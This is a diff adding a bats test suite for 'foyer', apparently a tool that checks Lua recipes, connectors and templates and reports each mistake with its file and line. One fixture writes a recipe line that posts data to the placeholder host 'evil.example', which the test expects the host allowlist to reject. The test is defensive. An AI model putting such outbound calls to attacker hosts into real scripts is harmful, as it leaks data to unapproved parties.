@@ -1,0 +1,532 @@
+#!/usr/bin/env bats
+# foyer check and foyer render: every mistake with file and line, without a network, store or key.
+
+bats_require_minimum_version 1.5.0
+load helper
+
+setup() {
+  AGENCY=$BATS_TEST_TMPDIR/agency
+  export HOME=$BATS_TEST_TMPDIR XDG_CONFIG_HOME=$BATS_TEST_TMPDIR/config
+  unset FOYER_KEY_FILE
+  mkdir -p "$AGENCY"
+  put foyer.lua <<'LUA'
+return {
+  recipes = {},
+}
+LUA
+  client acme
+  client beta
+}
+
+teardown() {
+  [ -z "${MOCK_PID:-}" ] || stop_mock
+}
+
+# put FILE: standard input into the workspace's FILE
+put() {
+  mkdir -p "$(dirname "$AGENCY/$1")"
+  cat >"$AGENCY/$1"
+}
+
+client() {
+  put "clients/$1/client.lua" <<LUA
+return {
+  name = "$1",
+  front = {
+    inboxes   = { support = "inb_1" },
+    teammates = { leela = "tea_1" },
+  },
+  recipes = {
+    ["first-reply"] = { author = "leela" },
+  },
+  vars = { phone = "+1 555 0100" },
+  hosts = { "hooks.slack.com" },
+}
+LUA
+}
+
+check() {
+  run --separate-stderr "$FOYER" -w "$AGENCY" check "$@"
+}
+
+# finds TEXT: check exits 65 and says exactly that
+finds() {
+  check
+  [ "$status" = 65 ]
+  diff -u <(printf '%s\n' "$@") <(printf '%s\n' "$output")
+}
+
+is_clean() {
+  check
+  echo "$output"
+  [ "$status" = 0 ] && [ -z "$output" ]
+}
+
+# ---- the ten mistakes, each a function that makes it and the line that names it ----
+
+recipe() { # recipe NAME LINE...: a recipe whose function says LINE...
+  { printf 'return {\n  summary = "A test.",\n  run = function(ctx)\n'
+    printf '    %s\n' "${@:2}"
+    printf '  end,\n}\n'; } | put "$1"
+}
+
+mistake_syntax() {
+  put recipes/broken.lua <<'LUA'
+return {
+  summary = "Broken.",
+  run = function(ctx)
+    ctx.log("hello"
+  end,
+}
+LUA
+}
+says_syntax="recipes/broken.lua:5: syntax error: ')' expected (to close '(' at line 4) near 'end'"
+
+mistake_unknown_key() {
+  put lua/front/actions/shout.lua <<'LUA'
+return {
+  summary = "Shout.",
+  effect = "read",
+  inptu = {},
+  run = function() end,
+}
+LUA
+}
+says_unknown_key='lua/front/actions/shout.lua:4: inptu: unknown key "inptu"; did you mean "input"?'
+
+mistake_wrong_type() {
+  put clients/acme/lua/front/actions/list-inboxes.lua <<'LUA'
+-- only the limit
+return super {
+  input = {
+    limit = { "integer", max = 50 },
+  },
+  scopes = "inboxes:read",
+}
+LUA
+}
+says_wrong_type='clients/acme/lua/front/actions/list-inboxes.lua:6: scopes: must be a list such as { "…" }, not text'
+
+mistake_missing_field() {
+  put lua/front/triggers/silence.lua <<'LUA'
+-- a trigger
+return {
+  on = { "inbound" },
+}
+LUA
+}
+says_missing_field='lua/front/triggers/silence.lua:2: summary: is missing: when it fires, in one line: summary = "…"'
+
+mistake_id_prefix() {
+  sed -i 's/"inb_1"/"cha_1"/' "$AGENCY/clients/beta/client.lua"
+}
+says_id_prefix='clients/beta/client.lua:4: front.inboxes.support: must be an id that begins with "inb_", not "cha_1"'
+
+mistake_unknown_recipe() {
+  sed -i 's/\["first-reply"\]/["frist-reply"]/' "$AGENCY/clients/acme/client.lua"
+}
+says_unknown_recipe='clients/acme/client.lua:8: recipes.frist-reply: unknown recipe "frist-reply"; did you mean "first-reply"?'
+
+mistake_unknown_action() {
+  recipe recipes/inboxes.lua 'local a = 1' 'return pcall(ctx.call, "front/list-inboxen", { limit = a })'
+}
+says_unknown_action='recipes/inboxes.lua:5: unknown action "front/list-inboxen"; did you mean "front/list-inboxes"?'
+
+mistake_template_variable() {
+  put clients/beta/templates/first-reply.txt <<'TXT'
+Hello,
+
+about {{conversation.subjcet}}: call {{vars.phone}}.
+TXT
+}
+says_template_variable="clients/beta/templates/first-reply.txt:3: unknown variable 'conversation.subjcet'; did you mean 'conversation.subject'?"
+
+mistake_super() {
+  put clients/acme/lua/front/actions/list-inbox.lua <<'LUA'
+local limit = 10
+
+return super {
+  input = { limit = { default = limit } },
+}
+LUA
+}
+says_super='clients/acme/lua/front/actions/list-inbox.lua:3: super has nothing to lie over: no layer below has lua/front/actions/list-inbox.lua; did you mean to call this file "list-inboxes.lua"?'
+
+mistake_host() {
+  recipe clients/beta/recipes/post.lua 'ctx.http.post("https://hooks.slack.com/ok", {})' \
+    'ctx.http.post("https://evil.example/x?" .. ctx.now(), { text = "hi" })'
+}
+says_host='clients/beta/recipes/post.lua:5: forbidden host "evil.example": it is not in `hosts` of client.lua; name it there if scripts may reach it'
+
+@test "a workspace without mistakes, as init makes it and ours" {
+  is_clean
+  [[ $stderr == "no mistakes in "*" scripts and templates of 2 clients" ]]
+  "$FOYER" init "$BATS_TEST_TMPDIR/fresh"
+  "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" check
+}
+
+@test "needs no key, no store, no network, and leaves nothing behind" {
+  before=$(find "$AGENCY" | sort)
+  is_clean
+  [ "$(find "$AGENCY" | sort)" = "$before" ]
+  [ ! -e "$XDG_CONFIG_HOME" ]
+}
+
+@test "each of the ten mistakes alone" {
+  for kind in syntax unknown_key wrong_type missing_field id_prefix unknown_recipe unknown_action \
+    template_variable super host; do
+    rm -rf "$AGENCY"
+    mkdir -p "$AGENCY"
+    setup
+    is_clean
+    "mistake_$kind"
+    said=says_$kind
+    finds "${!said}"
+    [[ $stderr == "1 mistake in "* ]]
+  done
+}
+
+@test "all ten at once" {
+  for kind in syntax unknown_key wrong_type missing_field id_prefix unknown_recipe unknown_action \
+    template_variable super host; do
+    "mistake_$kind"
+  done
+  finds "$says_unknown_recipe" "$says_super" "$says_wrong_type" "$says_id_prefix" "$says_host" \
+    "$says_template_variable" "$says_unknown_key" "$says_missing_field" "$says_syntax" "$says_unknown_action"
+  [[ $stderr == "10 mistakes in "* ]]
+}
+
+@test "--json is one document, and a client can be named" {
+  mistake_super
+  mistake_host
+  run --separate-stderr "$FOYER" -w "$AGENCY" check beta --json
+  [ "$status" = 65 ]
+  [ "$(jq -c '[.clients, (.mistakes | map([.path, .line]))]' <<<"$output")" = \
+    '[1,[["clients/beta/recipes/post.lua",5]]]' ]
+  check gamma
+  [ "$status" = 65 ]
+  [[ $stderr == *'there is no client "gamma"'* ]]
+}
+
+@test "settings that cannot be read are named, and the rest is still looked at" {
+  printf 'return {\n  recipes = {\n}\n' | put foyer.lua
+  printf 'return {\n  name = "beta",\n  vars = { phone = phone },\n}\n' | put clients/beta/client.lua
+  mkdir -p "$AGENCY/clients/gamma"
+  mistake_unknown_key
+  finds 'clients/beta/client.lua:3: unknown name "phone": a settings file knows only secret "…" and env "…"; is a quote missing?' \
+    'clients/gamma/client.lua:1: is missing: it makes the directory a client'"'"'s: return { name = "…" }' \
+    "foyer.lua:4: syntax error: '}' expected (to close '{' at line 1) near <eof>" \
+    "$says_unknown_key"
+}
+
+@test "a file that never ends, or fails, while it is loaded is named" {
+  printf 'local n = 0 while true do n = n + 1 end\n' | put recipes/loop.lua
+  printf 'return super { summary = "over a loop" }\n' | put clients/acme/recipes/loop.lua
+  printf 'return {\n  summary = 1 .. nil,\n}\n' | put recipes/fails.lua
+  printf 'local t = {}\nreturn t.x.y\n' | put lua/front/actions/index.lua
+  printf 'x = 1\nreturn {}\n' | put lua/front/actions/global.lua
+  printf '\n-- nothing\n' | put lua/front/actions/nothing.lua
+  finds 'lua/front/actions/global.lua:1: cannot set the global "x": write "local x"' \
+    'lua/front/actions/index.lua:2: attempt to index a nil value (field '"'x'"')' \
+    'lua/front/actions/nothing.lua:1: returns a nil: a script returns one table, as in return { summary = …, run = … }' \
+    'recipes/fails.lua:2: attempt to concatenate a nil value' \
+    'recipes/loop.lua:1: cannot load it: the script ran 200 ms without waiting for anything (an endless loop?)'
+}
+
+@test "files that nothing reads" {
+  for file in clients/acme/lua/front/action/x.lua clients/acme/recipe/x.lua lua/frnt/actions/x.lua \
+    lua/front/x.lua lua/x.lua lua/mock/main.lua recipes/more/x.lua 'recipes/a b.lua' templates/x.lua \
+    clients/acme/front/actions/x.lua clients/acme/lua/front/connector.lua; do
+    echo 'return {}' | put "$file"
+  done
+  echo hello | put templates/letters/hello.txt
+  echo hello | put recipes/README.md
+  check
+  [ "$status" = 65 ]
+  diff -u - <(cut -d: -f1-3 <<<"$output") <<'OUT'
+clients/acme/front/actions/x.lua:1: nothing reads this file
+clients/acme/lua/front/action/x.lua:1: nothing reads this file
+clients/acme/lua/front/connector.lua:1: nothing reads this file
+clients/acme/recipe/x.lua:1: nothing reads this file
+lua/frnt/actions/x.lua:1: nothing reads this file
+lua/front/x.lua:1: nothing reads this file
+lua/mock/main.lua:1: nothing reads this file
+lua/x.lua:1: nothing reads this file
+recipes/a b.lua:1: nothing reads this file
+recipes/more/x.lua:1: nothing reads this file
+templates/x.lua:1: nothing reads this file
+OUT
+  [[ $output == *"did you mean lua/front/actions/x.lua?"* && $output == *"did you mean recipes/x.lua?"* ]]
+}
+
+@test "a recipe's options in client.lua" {
+  put clients/acme/client.lua <<'LUA'
+return {
+  name = "acme",
+  front = { teammates = { leela = "tea_1" } },
+  recipes = {
+    ["first-reply"] = {
+      author   = "lela",
+      template = "first-repyl",
+      autor    = "leela",
+    },
+    digest = {
+      cron  = "30 7 * * 1-5",
+      hours = "four", limit = 200,
+      conversation = "inb_1",
+    },
+  },
+}
+LUA
+  finds 'clients/acme/client.lua:6: recipes.first-reply.author: "lela" is no teammate: neither an id ("tea_…"), an alias ("alt:…") nor a name in `front.teammates` of client.lua; did you mean "leela"?' \
+    'clients/acme/client.lua:7: recipes.first-reply.template: unknown template "first-repyl"; did you mean "first-reply"?' \
+    'clients/acme/client.lua:8: recipes.first-reply.autor: unknown option "autor" of the recipe first-reply; did you mean "author"?' \
+    'clients/acme/client.lua:12: recipes.digest.hours: "four" is no number' \
+    'clients/acme/client.lua:12: recipes.digest.limit: 200 is more than 100' \
+    'clients/acme/client.lua:13: recipes.digest.conversation: "inb_1" is an inbox id; a conversation id starts with "cnv_"'
+}
+
+@test "a shared file counts for the clients that use it" {
+  recipe recipes/chat.lua 'ctx.http.post("https://chat.example/x", {})' \
+    'ctx.template("note", { count = 1 })'
+  echo '{{vars.fax}} {{count}} {{conut}}' | put templates/note.md
+  sed -i 's/recipes = {/&\n    chat = true,/; s/phone =/fax = "1", phone =/; s/"hooks.slack.com"/"chat.example"/' \
+    "$AGENCY/clients/acme/client.lua"
+  finds "templates/note.md:1: unknown variable 'conut'; did you mean 'count'?"
+  sed -i 's/recipes = {/&\n    chat = true,/' "$AGENCY/clients/beta/client.lua"
+  finds 'recipes/chat.lua:4: forbidden host "chat.example": it is not in `hosts` of client.lua; name it there if scripts may reach it (client beta)' \
+    "templates/note.md:1: unknown variable 'conut'; did you mean 'count'?" \
+    "templates/note.md:1: unknown variable 'vars.fax' (client beta)"
+  check acme
+  [ "$(wc -l <<<"$output")" = 1 ]
+}
+
+@test "templates, triggers and fields" {
+  printf 'Hi\n{{#conversation}}\n{{>footer}}\n{{>foter}}\n' | put templates/first-reply.txt
+  printf '{{subject}}\n{{subjct}}\n' | put templates/footer.txt
+  printf '{{#a}}\n' | put templates/open.html
+  put lua/front/triggers/late.lua <<'LUA'
+return {
+  summary = "Late.",
+  on      = { "inbound", 2 },
+  needs   = { "payload.conversation", "payload.nothing" },
+  sample  = "samples/conversation-assigned.json",
+}
+LUA
+  put lua/front/actions/odd.lua <<'LUA'
+return {
+  summary = "Odd.", effect = "writes",
+  input = {
+    a = { "strin" },
+    b = { "integer", enum = { 1 } },
+    c = { enum = { "x", "y" }, default = "z" },
+    d = { list = { "integer", mim = 1 } },
+    e = "string",
+    f = {},
+  },
+  run = function(ctx) ctx.template("nothing", {}) end,
+}
+LUA
+  put recipes/odd.lua <<'LUA'
+return {
+  summary = "Odd.", on = "front/late-", cron = "61 * * * *",
+  retry = { attempts = "many", give_up = "soon" },
+  options = { t = { "template", default = "non" } },
+  run = 1,
+}
+LUA
+  finds 'lua/front/actions/odd.lua:2: effect: must be "read", "write" or "idempotent", not "writes"' \
+    'lua/front/actions/odd.lua:4: input.a: unknown type "strin"; did you mean "string"?' \
+    'lua/front/actions/odd.lua:5: input.b: has several types: a field has one, either a word such as "string", or enum =, list = or object =' \
+    'lua/front/actions/odd.lua:6: input.c.default: "z" is not one of x, y' \
+    'lua/front/actions/odd.lua:7: input.d.list.mim: unknown key "mim"; did you mean "min"?' \
+    'lua/front/actions/odd.lua:8: input.e: must be a table such as { "string", required = true }, not text' \
+    'lua/front/actions/odd.lua:9: input.f: has no type: a field has one, either a word such as "string", or enum =, list = or object =' \
+    'lua/front/actions/odd.lua:11: unknown template "nothing"; make it as templates/nothing.txt, .html or .md' \
+    'lua/front/triggers/late.lua:3: on[2]: must be text, not a number' \
+    'lua/front/triggers/late.lua:4: needs[2]: "payload.nothing" is not in the sample samples/conversation-assigned.json' \
+    'recipes/odd.lua:2: cron: cannot read the cron times "61 * * * *": the minute "61" is out of range' \
+    'recipes/odd.lua:2: on: unknown trigger "front/late-"; did you mean "front/late"?' \
+    'recipes/odd.lua:3: retry.attempts: must be a whole number, not text' \
+    'recipes/odd.lua:3: retry.give_up: "soon" is no duration; write "90s", "15m", "2h" or "3d"' \
+    'recipes/odd.lua:4: options.t.default: unknown template "non"; make it as templates/non.txt, .html or .md' \
+    'recipes/odd.lua:5: run: must be a function, not a number' \
+    "templates/first-reply.txt:4: syntax error: unclosed section 'conversation' opened at line 2" \
+    "templates/open.html:1: syntax error: unclosed section 'a' opened at line 1"
+}
+
+@test "partials are looked at where they are included" {
+  printf '{{#conversation}}\n{{>footer}}\n{{>foter}}\n{{/conversation}}\n' | put templates/first-reply.txt
+  printf '{{subject}}\n{{subjct}}\n' | put templates/footer.txt
+  finds "templates/first-reply.txt:3: there is no template 'foter' to include" \
+    "templates/footer.txt:2: unknown variable 'subjct'; did you mean 'subject'?"
+}
+
+@test "what a recipe passes to a template is known, and data from elsewhere may hold anything" {
+  printf '{{count}} {{things.name}} {{whatever}}\n' | put templates/list.md
+  recipe recipes/list.lua 'local f = function() return 1, { hidden = 2 } end' \
+    'return ctx.template("list", { count = f(1, 2), ["things"] = { { name = "a" } } })'
+  finds "templates/list.md:1: unknown variable 'whatever'"
+  recipe recipes/list.lua 'local data = {}' 'return ctx.template("list", data)'
+  is_clean
+}
+
+@test "addresses in all the ways to write them" {
+  put lua/front/actions/ask.lua <<'LUA'
+return {
+  summary = "Ask.", effect = "read",
+  run = function(ctx)
+    ctx.http.get("https://api2.frontapp.com/me")
+    ctx.http.get("https://x.api.frontapp.com/me")
+    ctx.http.get("https://hooks.slack.com:443/me")
+    ctx.http.get("https://" .. ctx.vars.host .. "/me")
+    ctx.http.get("https://a." .. ctx.vars.host)
+    pcall(ctx.http.get, "https://one.example/")
+    ctx.http.request { method = "GET", url = "https://two.example" }
+    ctx.http.page("http://hooks.slack.com/")
+    ctx.http.head("https://user@hooks.slack.com/")
+    -- ctx.http.get("https://comment.example/")
+  end,
+}
+LUA
+  recipe recipes/ask.lua 'ctx.http.get("https://api2.frontapp.com/me", { connection = "front" })' \
+    'ctx.http.get("https://api2.frontapp.com/me")'
+  check
+  [ "$status" = 65 ]
+  diff -u - <(sed 's/; name it there.*//' <<<"$output") <<'OUT'
+lua/front/actions/ask.lua:9: forbidden host "one.example": it is neither the connection's nor in `hosts` of client.lua
+lua/front/actions/ask.lua:10: forbidden host "two.example": it is neither the connection's nor in `hosts` of client.lua
+lua/front/actions/ask.lua:11: forbidden address "http://hooks.slack.com/": only https is allowed here
+lua/front/actions/ask.lua:12: cannot use the URL https://user@hooks.slack.com/: its host is malformed
+recipes/ask.lua:5: forbidden host "api2.frontapp.com": it is the app front's: add connection = "front" to the call's options
+OUT
+}
+
+@test "a connector is the workspace's, and its mistakes hide no others" {
+  put lua/front/connector.lua <<'LUA'
+return {
+  name = "Front",
+  api = { base = "https://api2.frontapp.com" },
+  pagign = {},
+  ids = { inbox = { prefix = 1 } },
+}
+LUA
+  put lua/crm/connector.lua <<'LUA'
+return {
+  name = "CRM",
+  api = { base = "https://crm.example", hosts = { "crm.example" } },
+  ids = { deal = { prefix = "deal_" } },
+}
+LUA
+  put lua/crm/actions/get-deal.lua <<'LUA'
+return {
+  summary = "A deal.", effect = "read",
+  input = { deal_id = { "deal", required = true } },
+  run = function(ctx, input) return ctx.http.get("/deals/" .. input.deal_id) end,
+}
+LUA
+  finds 'lua/front/connector.lua:3: api.hosts: is missing' \
+    'lua/front/connector.lua:4: pagign: unknown key "pagign"; did you mean "paging"?' \
+    'lua/front/connector.lua:5: ids.inbox.prefix: must be text, not a number'
+}
+
+# ---- at run time: the same sentences ----
+
+call() {
+  run --separate-stderr "$FOYER" -w "$AGENCY" call "$@" --client acme
+}
+
+@test "foyer call names file, line and field of a broken definition" {
+  mistake_unknown_key
+  call front/shout
+  [ "$status" = 70 ]
+  [ "$stderr" = "foyer: $says_unknown_key" ]
+  mistake_wrong_type
+  call front/list-inboxes
+  [ "$status" = 70 ]
+  [ "$stderr" = "foyer: $says_wrong_type" ]
+  mistake_super
+  call front/list-inbox
+  [ "$status" = 70 ]
+  [ "$stderr" = "foyer: $says_super" ]
+}
+
+@test "a mistake in what an override lies over is named there" {
+  mistake_unknown_key
+  printf 'return super {\n  summary = "Shout louder.",\n}\n' | put clients/acme/lua/front/actions/shout.lua
+  call front/shout
+  [ "$stderr" = "foyer: $says_unknown_key" ]
+  finds "$says_unknown_key"
+}
+
+@test "wrong inputs of foyer call read well" {
+  call front/send-conversation-reply conversation_id=inb_1 body=hi
+  [ "$status" = 65 ]
+  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input.conversation_id: "inb_1" is an inbox id; a conversation id starts with "cnv_"' ]
+  call front/send-conversation-reply conversation_id=cnv_1 body=hi type=mail
+  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input.type: "mail" is not one of message, comment' ]
+  call front/send-conversation-reply conversation_id=cnv_1 body=hi author_id=lela
+  [[ $stderr == *'input.author_id: "lela" is no teammate: '*'did you mean "leela"?' ]]
+  call front/send-conversation-reply conversation_id=cnv_1 boddy=hi
+  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input: unknown key "boddy"; did you mean "body"?' ]
+  call front/send-conversation-reply conversation_id=cnv_1
+  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input: "body" is missing (string)' ]
+}
+
+# ---- foyer render ----
+
+render() {
+  run --separate-stderr "$FOYER" -w "$AGENCY" render "$@" --client acme
+}
+
+@test "render: with the sample, with words, with a file" {
+  render first-reply
+  [ "$status" = 0 ]
+  [[ $output == "<p>Hello Ada Example,</p>"*"Thank you for writing to acme."*"please call us: +1 555 0100"* ]]
+  [ -z "$stderr" ]
+  echo '<b>{{name}}</b> {{{name}}} {{vars.phone}}' | put templates/x.html
+  render x 'name=a & b'
+  [ "$output" = '<b>a &amp; b</b> a & b +1 555 0100' ]
+  echo '{"name": "file", "list": [1, 2]}' >"$BATS_TEST_TMPDIR/data.json"
+  echo '{{name}}{{#list}} {{.}}{{/list}} {{more}}' | put templates/x.md
+  rm "$AGENCY/templates/x.html"
+  render x --data "$BATS_TEST_TMPDIR/data.json" more:=3
+  [ "$output" = 'file 1 2 3' ]
+  render x --data "$BATS_TEST_TMPDIR/data.json" more=3 --json
+  [ "$(jq -c . <<<"$output")" = '{"path":"templates/x.md","text":"file 1 2 3\n","unknown":[]}' ]
+}
+
+@test "render: unknown variables, with file and line" {
+  printf 'Hi\n\n{{conversation.subjcet}} {{nothing}}\n' | put clients/acme/templates/first-reply.md
+  render first-reply
+  [ "$status" = 65 ]
+  [ "$output" = $'Hi\n\n ' ]
+  [ "$stderr" = "clients/acme/templates/first-reply.md:3: unknown variable conversation.subjcet; did you mean 'conversation.subject'?
+clients/acme/templates/first-reply.md:3: unknown variable nothing" ]
+}
+
+@test "render: mistakes on the command line" {
+  render frist-reply
+  [ "$status" = 65 ]
+  [[ $stderr == *'there is no template "frist-reply"; did you mean "first-reply"?'* ]]
+  run --separate-stderr "$FOYER" -w "$AGENCY" render first-reply
+  [ "$status" = 64 ]
+  render first-reply --conversation cnv_1 --data x
+  [ "$status" = 64 ]
+  echo '[1]' >"$BATS_TEST_TMPDIR/list.json"
+  render first-reply --data "$BATS_TEST_TMPDIR/list.json"
+  [ "$status" = 65 ]
+}
+
+@test "render: with a conversation of the company" {
+  start_mock
+  printf mock-token >"$BATS_TEST_TMPDIR/token"
+  "$FOYER" init "$BATS_TEST_TMPDIR/fresh"
+  "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" connect acme --token-file "$BATS_TEST_TMPDIR/token" --api-url "$MOCK"
+  id=$(curl -sf -H 'Authorization: Bearer mock-token' "$MOCK/conversations" | jq -r '._results[0].id')
+  subject=$(curl -sf -H 'Authorization: Bearer mock-token' "$MOCK/conversations/$id" | jq -r .subject)
+  echo '{{{conversation.id}}} {{{conversation.subject}}}' >"$BATS_TEST_TMPDIR/fresh/templates/x.md"
+  run --separate-stderr "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" render x --client acme --conversation "$id"
+  [ "$status" = 0 ]
+  [ "$output" = "$id $subject" ]
+}
